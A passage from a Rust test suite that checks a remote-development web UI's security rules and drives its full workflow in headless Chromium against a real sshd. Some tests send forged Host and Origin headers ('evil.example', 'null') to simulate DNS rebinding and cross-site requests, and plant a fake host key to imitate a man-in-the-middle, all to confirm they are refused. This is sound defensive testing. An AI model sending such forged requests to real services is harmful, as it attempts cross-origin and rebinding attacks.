//! `cargo mlcremote ui` (SPEC §9): its security rules checked with a real HTTP client,
//! and the whole flow driven in a real headless Chromium against a real sshd: pick the
//! ssh-config host, trust its key, install, browse, edit and save, upload, download,
//! run a command in a terminal, stop the server. Screenshots go to
//! `target/ui-screenshots/` (the README's pictures come from there).

use crate::common;

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    time::Duration,
};

use common::{
    Client,
    ui::{SELECT_ALL, Ui, editor_text, first_line, open_in_browser, ssh_config, wait_js},
};
use harness::{Sshd, User, browser::Browser};
use serde_json::{Value, json};

/// One request with a real client (hyper); the status, the headers, the body.
fn request(port: u16, method: &str, path: &str, headers: &[(&str, &str)]) -> (u16, Vec<(String, String)>, String) {
    use http_body_util::{BodyExt, Empty};
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        let stream = tokio::net::TcpStream::connect(("127.0.0.1", port)).await.unwrap();
        let (mut sender, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(stream))
            .await
            .unwrap();
        tokio::spawn(conn.with_upgrades());
        let mut request = hyper::Request::builder().method(method).uri(path);
        for (k, v) in headers {
            request = request.header(*k, *v);
        }
        let response = sender
            .send_request(request.body(Empty::<hyper::body::Bytes>::new()).unwrap())
            .await
            .unwrap();
        let status = response.status().as_u16();
        let headers = response
            .headers()
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or_default().to_string()))
            .collect();
        let body = if status == 101 {
            Vec::new()
        } else {
            response.into_body().collect().await.unwrap().to_bytes().to_vec()
        };
        (status, headers, String::from_utf8_lossy(&body).into_owned())
    })
}

fn header<'a>(headers: &'a [(String, String)], name: &str) -> Option<&'a str> {
    headers.iter().find(|(k, _)| k == name).map(|(_, v)| v.as_str())
}

/// The launch link works once, for an HttpOnly, SameSite=Strict cookie named after this
/// UI's port and a 303 to `/#key=<key>`; the page and its assets are static, every other
/// request needs the cookie *and* the key (401); a foreign Host, 403 (DNS rebinding); a
/// foreign Origin on what changes state and on WebSocket upgrades, 403; no CORS headers.
#[test]
fn the_ui_admits_only_its_own_page() {
    let client = Client::new();
    let config = client.home.path().join(".ssh/config");
    let cwd = tempfile::tempdir().unwrap();
    let ui = Ui::start(&client, &config, cwd.path(), &[]);
    let own = ui.own();
    let host = [("host", own.as_str())];

    // No cookie: the page and its assets (static, in the binary), nothing with data.
    for path in ["/ui/hosts", "/h/devbox/api/tree?path="] {
        let (status, _, body) = request(ui.port, "GET", path, &host);
        assert_eq!(status, 401, "{path}: {body}");
    }
    for path in ["/", "/assets/app.js"] {
        assert_eq!(request(ui.port, "GET", path, &host).0, 200, "{path}");
    }
    let (status, _, _) = request(ui.port, "GET", "/?launch=0123", &host);
    assert_eq!(status, 401, "a wrong launch token");

    let launch = format!("/?launch={}", ui.launch);
    // A foreign Host is refused before the launch token is even looked at.
    let (status, _, _) = request(ui.port, "GET", &launch, &[("host", "evil.example")]);
    assert_eq!(status, 403);
    let (status, headers, _) = request(ui.port, "GET", &launch, &host);
    assert_eq!(status, 303);
    let key = header(&headers, "location")
        .unwrap()
        .strip_prefix("/#key=")
        .unwrap()
        .to_string();
    assert_eq!(key.len(), 64, "a key of 256 bits: {key}");
    let set = header(&headers, "set-cookie").unwrap().to_string();
    let name = format!("mlcremote_ui_{}=", ui.port);
    for part in [name.as_str(), "HttpOnly", "SameSite=Strict", "Path=/"] {
        assert!(set.contains(part), "{set}");
    }
    let cookie = set.split(';').next().unwrap().to_string();
    assert!(!cookie.contains(&ui.launch), "the cookie is not the launch token");
    assert!(!cookie.contains(&key), "the cookie is not the key");
    let (status, _, _) = request(ui.port, "GET", &launch, &host);
    assert_eq!(status, 401, "the launch link works once");

    fn with_cookie<'a>(own: &'a str, cookie: &'a str, extra: &[(&'a str, &'a str)]) -> Vec<(&'a str, &'a str)> {
        let mut h = vec![("host", own), ("cookie", cookie)];
        h.extend_from_slice(extra);
        h
    }
    let with = |extra: &[(&'static str, &'static str)]| with_cookie(&own, &cookie, extra);
    let keyed = |extra: &[(&'static str, &'static str)]| {
        let mut h = with_cookie(&own, &cookie, &[("x-mlcremote-key", key.as_str())]);
        h.extend_from_slice(extra);
        h
    };
    let (status, headers, body) = request(ui.port, "GET", "/", &with(&[]));
    assert_eq!(status, 200);
    assert!(body.contains("/assets/app.js"), "{body}");
    assert!(header(&headers, "content-security-policy").is_some());
    assert_eq!(request(ui.port, "GET", "/assets/app.js", &with(&[])).0, 200);
    let localhost = format!("localhost:{}", ui.port);
    let (status, _, _) = request(ui.port, "GET", "/", &[("host", &localhost), ("cookie", &cookie)]);
    assert_eq!(status, 200, "localhost:<port> is the UI too");

    // Everything else: the cookie alone, the key alone, the other port's cookie name or
    // a wrong key get nothing; both together pass.
    let other_port = cookie.replace(&format!("mlcremote_ui_{}=", ui.port), "mlcremote_ui_1=");
    let (status, _, body) = request(ui.port, "GET", "/ui/hosts", &with(&[]));
    assert_eq!(status, 401, "cookie without key: {body}");
    let wrong = "0".repeat(64);
    for h in [
        vec![("host", own.as_str()), ("x-mlcremote-key", key.as_str())],
        vec![
            ("host", own.as_str()),
            ("cookie", other_port.as_str()),
            ("x-mlcremote-key", key.as_str()),
        ],
        with_cookie(&own, &cookie, &[("x-mlcremote-key", wrong.as_str())]),
    ] {
        for path in ["/ui/hosts", "/h/devbox/api/tree?path="] {
            assert_eq!(request(ui.port, "GET", path, &h).0, 401, "{path} with {h:?}");
        }
    }
    let (status, _, body) = request(ui.port, "GET", "/ui/hosts", &keyed(&[]));
    assert_eq!(status, 200, "{body}");

    // DNS rebinding: the cookie would not be sent to another name, but refuse anyway.
    for foreign in ["evil.example", "127.0.0.1", "127.0.0.1:1", "localhost.evil.example:80"] {
        let (status, _, _) = request(ui.port, "GET", "/", &[("host", foreign), ("cookie", &cookie)]);
        assert_eq!(status, 403, "Host {foreign}");
    }

    // What changes state needs the UI's own Origin; reads do not (same-origin GETs
    // carry none).
    let own_origin = format!("http://{own}");
    let mkdir = "/h/devbox/api/mkdir";
    for origin in [
        None,
        Some("http://evil.example"),
        Some("null"),
        Some("https://127.0.0.1:1"),
    ] {
        let mut h = keyed(&[]);
        if let Some(o) = origin {
            h.push(("origin", o));
        }
        let (status, _, _) = request(ui.port, "POST", mkdir, &h);
        assert_eq!(status, 403, "POST with Origin {origin:?}");
    }
    let mut h = keyed(&[]);
    h.push(("origin", &own_origin));
    let (status, _, body) = request(ui.port, "POST", mkdir, &h);
    assert_eq!(status, 409, "own origin passes; the host is not connected: {body}");

    // WebSockets carry the key as a subprotocol, which the answer names.
    let upgrade = [
        ("connection", "upgrade"),
        ("upgrade", "websocket"),
        ("sec-websocket-version", "13"),
        ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
    ];
    let protocol = format!("mlcremote.key.{key}");
    let with_protocol = |extra: &[(&'static str, &'static str)]| {
        let mut h = with_cookie(&own, &cookie, &upgrade);
        h.push(("sec-websocket-protocol", protocol.as_str()));
        h.extend_from_slice(extra);
        h
    };
    let mut foreign = with_protocol(&[]);
    foreign.push(("origin", "http://evil.example"));
    assert_eq!(request(ui.port, "GET", "/ui/ws", &foreign).0, 403);
    assert_eq!(
        request(ui.port, "GET", "/ui/ws", &with_protocol(&[])).0,
        403,
        "no Origin"
    );
    let mut no_key = with(&upgrade);
    no_key.push(("origin", &own_origin));
    assert_eq!(request(ui.port, "GET", "/ui/ws", &no_key).0, 401, "no key");
    let mut ours = with_protocol(&[]);
    ours.push(("origin", &own_origin));
    let (status, headers, _) = request(ui.port, "GET", "/ui/ws", &ours);
    assert_eq!(status, 101);
    assert_eq!(header(&headers, "sec-websocket-protocol"), Some(protocol.as_str()));

    // No CORS: nothing invites another origin to read.
    let (_, headers, _) = request(
        ui.port,
        "GET",
        "/ui/hosts",
        &keyed(&[("origin", "http://evil.example")]),
    );
    assert!(
        headers.iter().all(|(k, _)| !k.starts_with("access-control-")),
        "{headers:?}"
    );
}

/// The page, run as a person would, in Chromium.
#[test]
fn in_a_browser_pick_trust_install_edit_save_upload_download_terminal_stop() {
    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    fs::write(user.home.join("notes.txt"), "hello\n").unwrap();
    let client = Client::new();
    let config = ssh_config(&client, &sshd, &user);
    // The client's own release, served from here (no dist/ where the UI runs).
    let releases = tempfile::tempdir().unwrap();
    let repo = env!("CARGO_PKG_REPOSITORY").trim_start_matches("https://github.com/");
    common::publish_as(releases.path(), repo, &format!("v{}", env!("CARGO_PKG_VERSION")), false);
    let http = common::HttpServer::serve(releases.path());
    let cwd = tempfile::tempdir().unwrap();
    let ui = Ui::start(
        &client,
        &config,
        cwd.path(),
        &[("MLCREMOTE_RELEASE_BASE_URL", http.base_url())],
    );
    let shots = harness::workspace_root().join("target/ui-screenshots");
    let b = Browser::start().unwrap();
    let long = Duration::from_secs(90);
    let short = Duration::from_secs(15);

    // The launch link sets the cookie and lands on the host list, without the token.
    b.goto(&ui.url()).unwrap();
    b.wait(r#"#hosts li[data-host="devbox"] button.connect"#, short)
        .unwrap();
    let address = b.eval("return location.href;", vec![]).unwrap();
    assert_eq!(address, json!(format!("http://{}/", ui.own())));
    assert!(
        !b.page_text().unwrap().contains("*.internal"),
        "wildcard patterns are not hosts"
    );
    b.screenshot(&shots.join("hosts.png")).unwrap();

    // Connect: the host key is unknown; the page shows its fingerprint; trust it.
    b.press(r#"#hosts li[data-host="devbox"] button.connect"#, short)
        .unwrap();
    b.wait("#dialog button.trust", long).unwrap();
    let fingerprint = b.text_of("#fingerprint").unwrap();
    assert_eq!(fingerprint, fingerprint_of(&sshd));
    b.press("#dialog button.trust", long).unwrap();
    b.wait("#act-install", long).unwrap();
    let known = fs::read_to_string(client.home.path().join(".ssh/known_hosts")).unwrap();
    assert!(known.contains(&format!("[127.0.0.1]:{}", sshd.port())), "{known}");

    // Install: each step live, up to a healthy server; where the binary came from.
    b.press("#act-install", long).unwrap();
    b.wait_text("#source", "release", long).unwrap();
    b.wait(r#".steps li[data-step="health"].done"#, long).unwrap();
    b.wait("#deploy-result", long).unwrap();
    b.screenshot(&shots.join("deploy.png")).unwrap();
    b.wait_text(r#"dd[data-field="health"]"#, "ok", short).unwrap();
    let server = common::server_json(&user);
    let token = fs::read_to_string(user.mlcremote_dir().join("token")).unwrap();
    let token = token.trim();

    // The workspace: the tree, a file opened, edited and saved (on disk after).
    b.wait("#act-open-workspace", short).unwrap();
    b.press("#act-open-workspace", short).unwrap();
    b.wait(r#"#tree li[data-path="notes.txt"] .name"#, long).unwrap();
    b.press(r#"#tree li[data-path="notes.txt"] .name"#, long).unwrap();
    b.wait_text("#status-line", "opened notes.txt", short).unwrap();
    assert_eq!(editor_text(&b), "hello\n");
    let editor = b.find("#editor .cm-content").unwrap();
    b.type_into(&editor, &format!("{SELECT_ALL}hello from the browser\n"))
        .unwrap();
    b.press("#save", Duration::from_secs(15)).unwrap();
    b.wait_text("#status-line", "saved notes.txt", short).unwrap();
    assert_eq!(
        fs::read_to_string(user.home.join("notes.txt")).unwrap(),
        "hello from the browser\n"
    );

    // Changed on the host since it was opened: the page asks; cancel keeps the host's.
    fs::write(user.home.join("notes.txt"), "changed on the host, longer\n").unwrap();
    b.type_into(&editor, "more").unwrap();
    b.press("#save", Duration::from_secs(15)).unwrap();
    b.wait_text("#dialog-text", "changed on the host", short).unwrap();
    b.press(r#"#dialog button[data-value="false"]"#, Duration::from_secs(15))
        .unwrap();
    b.wait_text("#status-line", "not saved", short).unwrap();
    assert_eq!(
        fs::read_to_string(user.home.join("notes.txt")).unwrap(),
        "changed on the host, longer\n"
    );
    // Deleted on the host: the page asks; saving again writes it back.
    fs::remove_file(user.home.join("notes.txt")).unwrap();
    b.press("#save", Duration::from_secs(15)).unwrap();
    b.wait_text("#dialog-text", "was deleted on the host", short).unwrap();
    b.press(r#"#dialog button[data-value="true"]"#, Duration::from_secs(15))
        .unwrap();
    b.wait_text("#status-line", "saved notes.txt", short).unwrap();
    assert_eq!(
        fs::read_to_string(user.home.join("notes.txt")).unwrap(),
        "hello from the browser\nmore"
    );

    // Upload through the file picker (streamed PUT), then download it back.
    let local = tempfile::tempdir().unwrap();
    let upload = local.path().join("report.bin");
    let payload: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    fs::write(&upload, &payload).unwrap();
    b.type_into(&b.find("#upload-input").unwrap(), upload.to_str().unwrap())
        .unwrap();
    b.wait_text("#status-line", "uploaded report.bin", long).unwrap();
    assert_eq!(fs::read(user.home.join("report.bin")).unwrap(), payload);
    // The download goes through fetch with the key; a bare link (what a tab or another
    // page would open) gets nothing.
    common::ui::row_action(&b, "report.bin", "download", short).unwrap();
    b.wait_text("#status-line", "downloaded report.bin", long).unwrap();
    let checksum = "const done = arguments[arguments.length - 1];
         const sum = (a) => { const v = new Uint8Array(a); let s = 0; for (const x of v) s = (s * 31 + x) >>> 0; return [v.length, s]; };
         const what = arguments[0] ? fetch(arguments[0]).then(r => r.ok ? r.arrayBuffer() : r.status)
                                   : window.mlc.downloaded.blob.arrayBuffer();
         what.then(a => done(typeof a === 'number' ? a : sum(a))).catch(e => done(String(e)));";
    let fetched = b.eval_async(checksum, vec![Value::Null]).unwrap();
    let bare = b
        .eval_async(checksum, vec![json!("/h/devbox/api/file?path=report.bin")])
        .unwrap();
    assert_eq!(bare, json!(401), "a URL without the key");
    let sum = payload
        .iter()
        .fold(0u32, |s, &x| s.wrapping_mul(31).wrapping_add(u32::from(x)));
    assert_eq!(fetched, json!([payload.len(), sum]));

    // A terminal: type a command, read its output from the terminal's buffer.
    b.press("#new-terminal", Duration::from_secs(15)).unwrap();
    let input = b
        .wait(r#".term[data-state="open"] .xterm-helper-textarea"#, short)
        .unwrap();
    b.type_into(&input, "echo ui-$((6*7))\n").unwrap();
    wait_terminal(&b, 0, "ui-42", long);
    // The shell sees the terminal's size, and a new one when the box changes.
    let size = |b: &Browser| {
        b.eval(
            "const t = window.mlc.terminals[0]; return `${t.rows} ${t.cols}`;",
            vec![],
        )
        .unwrap()
    };
    let before = size(&b);
    shell_sees_the_size(&b, &input, long);
    b.eval("document.querySelector('.term').style.height = '140px';", vec![])
        .unwrap();
    let deadline = std::time::Instant::now() + short;
    while size(&b) == before {
        assert!(std::time::Instant::now() < deadline, "the terminal did not resize");
        std::thread::sleep(Duration::from_millis(50));
    }
    shell_sees_the_size(&b, &input, long);
    b.eval("document.querySelector('.term').style.height = '';", vec![])
        .unwrap();
    // A second terminal at once, with its own shell.
    b.press("#new-terminal", Duration::from_secs(15)).unwrap();
    let second = b
        .wait(
            r#".term:nth-of-type(2)[data-state="open"] .xterm-helper-textarea"#,
            short,
        )
        .unwrap();
    b.type_into(&second, "echo second-$((2*21))\n").unwrap();
    wait_terminal(&b, 1, "second-42", long);
    b.screenshot(&shots.join("workspace.png")).unwrap();
    // Each is a tab; the first again, and its shell's pid, to know it later.
    b.press(".term-tab:nth-of-type(1) .label", short).unwrap();
    let input = b
        .wait(
            r#".term:not([hidden])[data-state="open"] .xterm-helper-textarea"#,
            short,
        )
        .unwrap();
    b.type_into(&input, "echo pid-one=$((0+$$))x\n").unwrap();
    let shell = wait_tagged(&b, 0, "pid-one=", long);

    // The SSH connection drops (sshd's processes for it killed): the page says so, and
    // attaches again by itself, to the same shell, its output kept.
    // (The per-connection "sshd: user@notty" runs as the user and holds the socket too.)
    let killed = Command::new("pkill")
        .args(["-KILL", "-x", "-u", &user.name, "sshd"])
        .status()
        .unwrap();
    assert!(killed.success(), "no SSH connection to drop");
    let _ = Command::new("pkill")
        .args(["-KILL", "-P", &sshd.pid().to_string()])
        .status();
    b.wait(".term:not([hidden]) .gone", long).unwrap();
    // Back: no terminal says it is disconnected, and stays so for a second.
    let gone = |b: &Browser| {
        b.eval("return document.querySelectorAll('.term .gone').length;", vec![])
            .unwrap()
    };
    let deadline = std::time::Instant::now() + long;
    loop {
        if gone(&b) == json!(0) {
            std::thread::sleep(Duration::from_secs(1));
            if gone(&b) == json!(0) {
                break;
            }
        }
        assert!(std::time::Instant::now() < deadline, "the terminals did not come back");
        std::thread::sleep(Duration::from_millis(100));
    }
    let input = b.find(".term:not([hidden]) .xterm-helper-textarea").unwrap();
    b.type_into(&input, "echo back-$((40+2)) same=$((0+$$))x\n").unwrap();
    assert_eq!(wait_tagged(&b, 0, "same=", long), shell, "a new shell after the drop");
    let text = terminal_text(&b, 0);
    assert!(text.contains("ui-42"), "the output before the drop is gone: {text}");

    // A reload: the page, opened again, attaches to both shells, their output kept.
    b.eval("location.reload();", vec![]).unwrap();
    b.press(r#"#hosts li[data-host="devbox"] button.connect"#, long)
        .unwrap();
    b.press("#act-open-workspace:not([disabled])", long).unwrap();
    wait_terminal(&b, 0, "back-42", long);
    wait_terminal(&b, 1, "second-42", long);
    // `exit` in the second ends its shell and closes its tab; the first stays.
    let input = b
        .wait(
            r#".term:not([hidden])[data-state="open"] .xterm-helper-textarea"#,
            short,
        )
        .unwrap();
    b.type_into(&input, "exit\n").unwrap();
    wait_js(&b, "return document.querySelectorAll('.term-tab').length === 1;", long);
    let state = common::server_json(&user);
    let secret = fs::read_to_string(user.mlcremote_dir().join("token")).unwrap();
    let bearer = format!("Bearer {}", secret.trim());
    let sessions = || {
        let (status, body) = common::http(
            state["port"].as_u64().unwrap() as u16,
            "GET",
            "/api/terminals",
            &[("authorization", &bearer)],
            Vec::new(),
        )
        .unwrap();
        assert_eq!(status, 200);
        serde_json::from_slice::<Value>(&body).unwrap()
    };
    let left = sessions();
    assert_eq!(left.as_array().map(Vec::len), Some(1), "{left}");
    assert_eq!(left[0]["pid"], shell);

    // A tab switch keeps the terminal as it was; its close button ends its shell.
    b.press(r#"button[data-tab="hosts"]"#, short).unwrap();
    b.press(r#"button[data-tab="host:devbox"]"#, short).unwrap();
    b.wait(r#".term:not([hidden])[data-state="open"]"#, short).unwrap();
    assert!(terminal_text(&b, 0).contains("back-42"));
    b.press(".term-tab .close", short).unwrap();
    wait_js(&b, "return document.querySelectorAll('.term-tab').length === 0;", long);
    let deadline = std::time::Instant::now() + long;
    while sessions().as_array().is_some_and(|s| !s.is_empty()) || common::pid_alive(shell) {
        assert!(
            std::time::Instant::now() < deadline,
            "the closed terminal's shell still runs"
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    // The server's token is in nothing the browser got.
    let html = b.eval("return document.documentElement.outerHTML;", vec![]).unwrap();
    assert!(!html.to_string().contains(token));
    let seen = b
        .eval_async(
            "const done = arguments[arguments.length - 1];
             fetch('/h/devbox/api/tree?path=', { headers: { 'x-mlcremote-key': localStorage.getItem('mlcremote.key') } }).then(async r => {
               let all = r.status + '\\n';
               r.headers.forEach((v, k) => { all += k + ': ' + v + '\\n'; });
               done(all + await r.text()); });",
            vec![],
        )
        .unwrap();
    let seen = seen.as_str().unwrap();
    assert!(seen.starts_with("200") && seen.contains("notes.txt"), "{seen}");
    assert!(!seen.contains(token), "the token came back to the browser: {seen}");
    let cookies = b.eval("return document.cookie;", vec![]).unwrap();
    assert_eq!(cookies, json!(""), "the cookie is HttpOnly");

    // Stop the server from the host page.
    b.press("#host-page", Duration::from_secs(15)).unwrap();
    b.press("#act-stop", short).unwrap();
    wait_equal(&b, r#"dd[data-field="running"]"#, "no", long);
    let pid = server["pid"].as_u64().unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while common::pid_alive(pid) {
        assert!(std::time::Instant::now() < deadline, "the server still runs");
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(b);

    // Used before: remembered, without secrets.
    let recent = fs::read_to_string(client.home.path().join(".config/mlcremote/ui-hosts.json")).unwrap();
    let recent: Value = serde_json::from_str(&recent).unwrap();
    assert_eq!(recent, json!(["devbox"]));
}

/// Bad cases in the browser: a changed host key is refused naming the known_hosts line;
/// a password is asked in the page; a wrong one says what was tried; neither is kept.
#[test]
fn in_a_browser_a_changed_key_and_a_wrong_password_fail_in_plain_words() {
    assert!(harness::is_root(), "password logins need a throwaway user: run as root");
    let sshd = Sshd::start_with(harness::Daemon::OpenSsh, "PasswordAuthentication yes").unwrap();
    let user = sshd.user().unwrap();
    let mut chpasswd = Command::new("chpasswd").stdin(Stdio::piped()).spawn().unwrap();
    std::io::Write::write_all(
        chpasswd.stdin.as_mut().unwrap(),
        format!("{}:right-Pass1\n", user.name).as_bytes(),
    )
    .unwrap();
    assert!(chpasswd.wait().unwrap().success());
    let client = Client::new();
    let config = ssh_config(&client, &sshd, &user);
    let known = client.home.path().join(".ssh/known_hosts");
    // Another key recorded for this host: what a man in the middle looks like.
    fs::write(
        &known,
        format!(
            "[127.0.0.1]:{} ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n",
            sshd.port()
        ),
    )
    .unwrap();
    let cwd = tempfile::tempdir().unwrap();
    let ui = Ui::start(&client, &config, cwd.path(), &[]);
    let b = Browser::start().unwrap();
    let long = Duration::from_secs(60);
    b.goto(&ui.url()).unwrap();
    b.wait(r#"#hosts li[data-host="devbox"] button.connect"#, long).unwrap();
    b.press(r#"#hosts li[data-host="devbox"] button.connect"#, long)
        .unwrap();
    let failure = b.wait_text("#failure", "failed", long).unwrap();
    assert!(failure.contains("CHANGED") || failure.contains("changed"), "{failure}");
    assert!(failure.contains(&format!("line 1 of {}", known.display())), "{failure}");
    assert!(b.find("#dialog button.trust").is_err() || b.text_of("#dialog").unwrap().is_empty());

    // The right key recorded; a host typed in, with no key: the password is asked in
    // the page, and the right one logs in.
    fs::write(&known, fs::read_to_string(sshd.known_hosts().unwrap()).unwrap()).unwrap();
    let typed = |password: &str| {
        b.press(r#"button[data-tab="hosts"]"#, Duration::from_secs(15)).unwrap();
        let host = b.wait("#f-host", long).unwrap();
        b.type_into(&host, "127.0.0.1").unwrap();
        b.type_into(&b.find("#f-port").unwrap(), &sshd.port().to_string())
            .unwrap();
        b.type_into(&b.find("#f-user").unwrap(), &user.name).unwrap();
        b.type_into(&b.find("#f-password").unwrap(), password).unwrap();
        b.press("#f-connect", Duration::from_secs(15)).unwrap();
    };
    typed("");
    b.wait_text("#dialog-text", &format!("Password for {}@127.0.0.1", user.name), long)
        .unwrap();
    b.type_into(&b.find("#dialog-input").unwrap(), "right-Pass1").unwrap();
    b.press(r#"#dialog button[data-value="true"]"#, Duration::from_secs(15))
        .unwrap();
    wait_equal(&b, r#"dd[data-field="installed"]"#, "no", long);
    assert!(sshd.log().contains(&format!("Accepted password for {}", user.name)));

    // Nothing listening there: cannot connect, said so.
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    b.press(r#"button[data-tab="hosts"]"#, Duration::from_secs(15)).unwrap();
    b.type_into(&b.wait("#f-host", long).unwrap(), "127.0.0.1").unwrap();
    b.type_into(&b.find("#f-port").unwrap(), &closed.to_string()).unwrap();
    b.press("#f-connect", Duration::from_secs(15)).unwrap();
    let failure = b.wait_text("#failure", "failed", long).unwrap();
    assert!(
        failure.contains(&format!("cannot connect to 127.0.0.1:{closed}")),
        "{failure}"
    );

    // A wrong one typed into the form.
    typed("wrong-Pass1");
    // Asked again in the page after the typed one failed: cancel.
    let deadline = std::time::Instant::now() + long;
    let failure = loop {
        if b.text_of("#dialog-text").unwrap().contains("Password for")
            && b.eval("return !document.querySelector('#dialog').hidden;", vec![])
                .unwrap()
                == json!(true)
        {
            b.press(r#"#dialog button[data-value="false"]"#, Duration::from_secs(15))
                .unwrap();
        }
        let text = b.text_of("#failure").unwrap();
        if !text.is_empty() {
            break text;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no failure shown: {}",
            b.page_text().unwrap()
        );
        std::thread::sleep(Duration::from_millis(100));
    };
    assert!(failure.contains("password"), "{failure}");
    assert!(!failure.contains("wrong-Pass1"), "{failure}");
    b.screenshot(&harness::workspace_root().join("target/ui-screenshots/auth-failed.png"))
        .unwrap();
    drop(b);
    // Nothing the UI wrote holds the password.
    for entry in walk(client.home.path()) {
        let text = fs::read(&entry).unwrap_or_default();
        let text = String::from_utf8_lossy(&text);
        assert!(
            !text.contains("wrong-Pass1") && !text.contains("right-Pass1"),
            "{} holds a password",
            entry.display()
        );
    }
}

/// `open --host devbox`: connect (the page asks about the host key), install (nothing
/// runs there yet), then the workspace.
/// And the client started with no arguments and no terminal (double-clicked) is the UI.
#[test]
fn open_installs_then_shows_the_workspace_and_a_bare_start_is_the_ui() {
    let client = Client::new();
    let mut bare = Command::new(env!("CARGO_BIN_EXE_cargo-mlcremote"))
        .env("HOME", client.home.path())
        .env_remove("DISPLAY")
        .env_remove("WAYLAND_DISPLAY")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let line = first_line(&mut bare);
    let _ = bare.kill();
    let _ = bare.wait();
    assert!(line.starts_with("mlcremote ui: http://127.0.0.1:"), "{line:?}");

    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    fs::write(user.home.join("todo.txt"), "open me\n").unwrap();
    let config = ssh_config(&client, &sshd, &user);
    // The host key is not known yet: the connection `open` begins at its start, while
    // the browser loads the page, asks no one and gives up; the page's connect asks.
    let cwd = tempfile::tempdir().unwrap();
    common::dist_into(&cwd.path().join("dist"), false);
    let ui = Ui::start_as(&client, &["open", "--host", "devbox"], &config, cwd.path(), &[]);
    let b = Browser::start().unwrap();
    b.goto(&ui.url()).unwrap();
    let long = Duration::from_secs(90);
    b.wait("#dialog button.trust", long).unwrap();
    assert_eq!(b.text_of("#fingerprint").unwrap(), fingerprint_of(&sshd));
    b.press("#dialog button.trust", long).unwrap();
    b.wait(r#"#tree li[data-path="todo.txt"] .name"#, long).unwrap();
    b.press(r#"#tree li[data-path="todo.txt"] .name"#, long).unwrap();
    b.wait_text("#editor", "open me", long).unwrap();
    assert_eq!(common::server_json(&user)["version"], env!("CARGO_PKG_VERSION"));

    // Restart from the host page: a new server, healthy.
    let before = common::server_json(&user)["pid"].clone();
    b.press("#host-page", Duration::from_secs(15)).unwrap();
    b.press("#act-restart", long).unwrap();
    b.wait_text("#op-result", "restart: done", long).unwrap();
    assert_ne!(common::server_json(&user)["pid"], before);
    wait_equal(&b, r#"dd[data-field="health"]"#, "ok", long);

    // A start that fails: the page names the step, says what happened and what was
    // rolled back, and shows the server's log. (The server cannot write its state file:
    // a directory stands where it goes.)
    b.press("#act-stop", Duration::from_secs(15)).unwrap();
    wait_equal(&b, r#"dd[data-field="running"]"#, "no", long);
    fs::create_dir_all(user.mlcremote_dir().join("server.json/in-the-way")).unwrap();
    b.press("#act-upgrade", Duration::from_secs(15)).unwrap();
    let failure = b.wait_text("#failure", "install failed at", long).unwrap();
    let detail = b.text_of("#failure-detail").unwrap();
    b.screenshot(&harness::workspace_root().join("target/ui-screenshots/deploy-failed.png"))
        .unwrap();
    // The step that was running is named and marked; the host's own account of it
    // (its step, the log) is below.
    let step = failure
        .strip_prefix("install failed at ")
        .and_then(|r| r.split_once(':'))
        .map(|(step, _)| step)
        .unwrap_or_else(|| panic!("no step in {failure:?}"));
    assert!(["install+start", "health"].contains(&step), "{failure}");
    assert!(detail.contains("failed step: start"), "{detail}");
    assert!(detail.contains("server.json: Is a directory"), "{detail}");
    assert!(failure.contains("rolled back"), "{failure}");
    assert!(detail.contains("logs/out.log"), "{detail}");
    assert!(
        b.find(&format!(r#".steps li[data-step="{step}"].failed"#)).is_ok(),
        "the failed step is marked"
    );
}

/// A key with a passphrase: asked in the page (never stored); a file dropped on the tree
/// is uploaded.
#[test]
fn in_a_browser_a_key_passphrase_is_asked_and_a_dropped_file_is_uploaded() {
    let sshd = Sshd::start().unwrap();
    let user = sshd.user().unwrap();
    let client = Client::new();
    // The user's key, re-encrypted with a passphrase, is the one the config names.
    let locked = client.home.path().join(".ssh/locked_key");
    fs::copy(&user.key, &locked).unwrap();
    let path = locked.to_string_lossy().into_owned();
    harness::output(
        "ssh-keygen",
        &["-q", "-p", "-N", "correct horse", "-P", "", "-f", &path],
    )
    .unwrap();
    let locked_user = User {
        key: locked.clone(),
        ..user.clone()
    };
    let config = ssh_config(&client, &sshd, &locked_user);
    let (ui, _cwd) = Ui::open_devbox(&client, &sshd, &config);
    let b = Browser::start().unwrap();
    let long = Duration::from_secs(90);
    b.goto(&ui.url()).unwrap();
    // Asked in the page for each new connection (connect, then install): answer each.
    let deadline = std::time::Instant::now() + long;
    let mut asked = 0;
    while b.find(r#"#tree li[data-path=".ssh"]"#).is_err() {
        let open = b
            .eval("return !document.querySelector('#dialog').hidden;", vec![])
            .unwrap();
        if open == json!(true) {
            let question = b.text_of("#dialog-text").unwrap();
            assert_eq!(question, format!("Passphrase for {path}"));
            b.type_into(&b.find("#dialog-input").unwrap(), "correct horse").unwrap();
            b.press(r#"#dialog button[data-value="true"]"#, Duration::from_secs(15))
                .unwrap();
            asked += 1;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "no workspace: {}",
            b.page_text().unwrap()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(asked >= 1, "the passphrase was never asked");

    // Drop a file on the tree, as a file manager would.
    b.eval(
        "const dt = new DataTransfer();
         dt.items.add(new File(['dropped on the tree\\n'], 'dropped.txt', { type: 'text/plain' }));
         const tree = document.querySelector('#tree');
         for (const type of ['dragover', 'drop']) {
           tree.dispatchEvent(new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }));
         }",
        vec![],
    )
    .unwrap();
    b.wait_text("#status-line", "uploaded dropped.txt", long).unwrap();
    assert_eq!(
        fs::read_to_string(user.home.join("dropped.txt")).unwrap(),
